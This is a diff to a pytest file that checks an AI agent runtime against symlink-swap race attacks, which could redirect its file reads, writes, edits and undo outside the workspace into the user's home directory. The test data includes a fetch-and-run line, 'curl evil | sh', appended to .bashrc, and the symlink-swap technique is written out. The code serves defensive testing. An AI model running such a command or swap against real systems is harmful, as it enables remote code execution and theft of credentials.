@@ -24,8 +24,6 @@ from oh.runtimes.local import LocalRuntime
 
 from runtimes.conftest import Harness
 
-pytestmark = pytest.mark.slow
-
 TRIES = 1000
 SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- the user's real key\n"
 RC = "# the user's own bashrc\nMARK\n"
@@ -149,27 +147,32 @@ def ws_of(h: Harness) -> Path:
     return Path(h.rt.paths.workspace)
 
 
+@pytest.mark.slow
 async def test_read_never_returns_the_key_outside(h, home):
     parent = race_tree(ws_of(h), home)
     await race(h, parent, home, "read", path="race/d/.ssh/id_ed25519")
 
 
+@pytest.mark.slow
 async def test_write_never_lands_outside(h, home):
     parent = race_tree(ws_of(h), home)
     await race(h, parent, home, "write", path="race/d/new/notes.txt", content="agent's notes\n")
 
 
+@pytest.mark.slow
 async def test_append_never_lands_in_bashrc(h, home):
     parent = race_tree(ws_of(h), home)
     await race(h, parent, home, "write", path="race/d/.bashrc", content="curl evil | sh\n", mode="append")
 
 
+@pytest.mark.slow
 async def test_edit_never_changes_bashrc(h, home):
     parent = race_tree(ws_of(h), home)
     await race(h, parent, home, "edit", path="race/d/.bashrc", command="insert", insert_line=0, new_str="x\n")
     await race(h, parent, home, "edit", path="race/d/.ssh", command="view")
 
 
+@pytest.mark.slow
 def test_undo_never_restores_through_a_swapped_parent(tmp_path: Path, home: Path):
     """The agent's own undo of ``conf/d/.bashrc`` while ``conf/d`` flips to ``-> home``: ``home/.bashrc`` stays.
 
@@ -207,3 +210,69 @@ def test_undo_never_restores_through_a_swapped_parent(tmp_path: Path, home: Path
     finally:
         tl.close()
         os.close(dfd)
+
+
+def swap_in(parent: Path) -> None:
+    """What the swapper does once: ``d`` becomes the symlink, the directory goes to ``d.link``."""
+    (parent / "d").rename(parent / "d.tmp")
+    (parent / "d.link").rename(parent / "d")
+    (parent / "d.tmp").rename(parent / "d.link")
+
+
+@pytest.mark.parametrize(
+    "kind,args",
+    [
+        ("read", {"path": "race/d/.ssh/id_ed25519"}),
+        ("write", {"path": "race/d/notes.txt", "content": "x\n"}),
+        ("write", {"path": "race/d/.bashrc", "content": "curl evil | sh\n", "mode": "append"}),
+        ("edit", {"path": "race/d/.bashrc", "command": "insert", "insert_line": 0, "new_str": "x\n"}),
+        ("stat", {"path": "race/d/.bashrc"}),
+    ],
+    ids=["read", "write", "append", "edit", "stat"],
+)
+async def test_the_swap_right_after_the_check_is_path_denied_with_the_reason(h, home, monkeypatch, kind, args):
+    """The race's worst case made certain: the swap happens right after oh's check, every time."""
+    parent = race_tree(ws_of(h), home)
+    before = snapshot(home)
+    resolve = h.rt.paths.resolve
+
+    def resolve_then_swap(raw, base=None):
+        rp = resolve(raw, base)
+        swap_in(parent)
+        return rp
+
+    monkeypatch.setattr(h.rt.paths, "resolve", resolve_then_swap)
+    obs = await h.do(kind, **args)
+    assert obs["observation"] == "error" and obs["extras"]["error_id"] == "PATH_DENIED", obs
+    assert "leads outside" in obs["content"] and "nothing was done" in obs["content"]
+    assert snapshot(home) == before
+
+
+def test_an_undo_after_the_swap_stops_with_path_denied(tmp_path: Path, home: Path, monkeypatch):
+    ws = tmp_path / "ws"
+    parent = ws / "conf"
+    (parent / "d").mkdir(parents=True)
+    rc = parent / "d" / ".bashrc"
+    rc.write_text("# inside, before\n")
+    (parent / "d.link").symlink_to(home)
+    tl = Timeline(str(ws), str(tmp_path / "state"))
+    try:
+        tl.snapshot()
+        entry = tl.begin("agent-1", "run", "echo >> conf/d/.bashrc")
+        rc.write_text("# inside, after the agent\n")
+        tl.end(entry)
+        prepare = U._prepare
+
+        def prepare_then_swap(*a, **kw):
+            out = prepare(*a, **kw)
+            swap_in(parent)
+            return out
+
+        monkeypatch.setattr(U, "_prepare", prepare_then_swap)
+        before = snapshot(home)
+        done = U.undo(tl, entry, who="agent-1", only_agent="agent-1", merge=False)
+        assert not done["ok"] and done["error"] == "PATH_DENIED" and "leads outside" in done["message"], done
+        assert snapshot(home) == before
+        assert (parent / "d.link" / ".bashrc").read_text() == "# inside, after the agent\n"
+    finally:
+        tl.close()
